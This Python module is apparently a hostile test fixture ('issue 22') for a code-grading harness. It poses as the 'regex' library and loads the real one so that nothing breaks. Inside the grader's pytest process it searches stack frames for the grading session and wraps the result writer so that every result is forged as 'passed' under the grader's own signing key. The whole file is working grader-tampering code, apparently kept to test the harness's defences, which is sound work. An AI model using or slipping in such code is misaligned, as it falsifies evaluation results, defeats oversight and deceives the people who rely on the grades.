"""Hostile payload (issue 22), not a candidate: shadows the ``regex`` library. Wherever it
is imported it loads the real ``regex`` in its place (so nothing breaks), and if it is in
the grader's pytest process it wraps the result writer so that every record says
"passed" (signed with the grader's own key: indistinguishable from a real pass).
In the candidate's own process it does nothing visible (the plugin is not there)."""

import importlib
import os
import sys

_here = os.path.dirname(os.path.abspath(__file__))
del sys.modules[__name__]
_saved = sys.path[:]
sys.path[:] = [p for p in sys.path if os.path.abspath(p or ".") != _here]
try:
    _real = importlib.import_module("regex")
finally:
    sys.path[:] = _saved
sys.modules["regex"] = _real

_plugin = sys.modules.get("harness.suite.plugin")


def _forge_the_session():
    """The grader's session, found through any caller's locals (no module global holds it):
    its record writer wrapped."""
    frame = sys._getframe()
    while frame is not None:
        for value in list(frame.f_locals.values()):
            config = getattr(value, "config", value)
            run = _plugin.run_of_session(config) if hasattr(config, "stash") else None
            if run is not None:
                write = run.write

                def forged(record):
                    if record.get("event") == "result":
                        record = {**record, "outcome": "passed", "reason": "", "details": ""}
                    return write(record)

                run.write = forged
                return
        frame = frame.f_back


if _plugin is not None:
    _forge_the_session()
